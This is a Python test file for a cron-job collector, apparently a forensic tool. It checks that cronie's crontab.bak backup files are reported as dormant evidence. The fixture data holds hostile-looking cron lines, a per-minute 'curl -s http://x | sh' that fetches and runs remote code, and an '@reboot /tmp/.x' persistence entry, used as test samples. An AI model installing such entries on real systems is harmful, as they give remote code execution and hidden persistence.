"""cronie's crontab.bak files: earlier tabs, reported as dormant evidence."""

from __future__ import annotations

from tests.conftest import MakeRoot, run_collect


def test_backups_in_every_home(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "home/alice/.cache/crontab/crontab.bak": "* * * * * curl -s http://x | sh\n",
            "root/.cache/crontab/crontab.www-data.bak": "@reboot /tmp/.x\n",
            "root/.cache/crontab/notes.txt": "not a backup\n",
        }
    )
    report = run_collect(root)
    assert report.issues == ()
    jobs = {j.evidence.path: j for j in report.jobs}
    assert sorted(jobs) == [
        "/home/alice/.cache/crontab/crontab.bak",
        "/root/.cache/crontab/crontab.www-data.bak",
    ]
    alice = jobs["/home/alice/.cache/crontab/crontab.bak"]
    assert alice.run_as == "alice"
    assert alice.effective.runs is False
    assert alice.extra["backup"] is True
    assert alice.extra["saved_by"] == "alice"
    other = jobs["/root/.cache/crontab/crontab.www-data.bak"]
    assert other.run_as == "www-data"
    assert other.extra["saved_by"] == "root"
